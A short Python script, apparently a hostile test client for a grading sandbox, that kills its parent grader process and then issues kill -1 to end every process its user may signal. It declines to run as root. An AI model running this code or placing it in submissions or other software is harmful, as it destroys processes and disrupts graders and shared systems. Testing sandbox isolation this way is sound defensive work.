# A client that kills its parent (the grader) and then every process it may signal
# (kill -1): run as the instructor's own user, kill -1 ends the whole batch.
import os
import signal
import sys

if os.getuid() == 0:  # as root, kill -1 would end the machine: not the attack measured
    print('running as root: not killing anything', file=sys.stderr, flush=True)
    sys.exit(1)
try:
    os.kill(os.getppid(), signal.SIGKILL)
    print('killed the parent %d' % os.getppid(), file=sys.stderr, flush=True)
except OSError as error:
    print('could not kill the parent: %s' % error, file=sys.stderr, flush=True)
print('now kill -1', file=sys.stderr, flush=True)
os.kill(-1, signal.SIGKILL)
print('survived kill -1', file=sys.stderr, flush=True)
